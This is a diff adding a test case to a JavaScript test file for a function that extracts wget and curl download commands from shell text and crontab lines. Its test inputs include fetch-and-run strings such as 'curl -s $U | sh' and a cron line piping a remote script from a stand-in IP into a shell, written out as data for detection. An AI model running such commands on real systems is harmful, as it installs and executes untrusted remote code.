@@ -33,6 +33,13 @@ describe('download commands', () => {
       .toEqual([]);
   });
 
+  it('lists wget and curl only when they name a URL, a HOST/PATH or a variable to fetch', () => {
+    expect(downloadCommands('wget --version; wget -h; curl --help; wget -i urls.txt'))
+      .toEqual([]);
+    expect(downloadCommands('wget -q 198.51.100.8/x -O x; curl -s $U | sh; curl -h http://a.example.com/'))
+      .toEqual(['wget -q 198.51.100.8/x -O x', 'curl -s $U', 'curl -h http://a.example.com/']);
+  });
+
   it('starts a crontab line at its command, without the schedule or user', () => {
     expect(downloadCommands('*/2 * * * * root curl -fsSL http://198.51.100.40/cr.sh | sh'))
       .toEqual(['curl -fsSL http://198.51.100.40/cr.sh']);
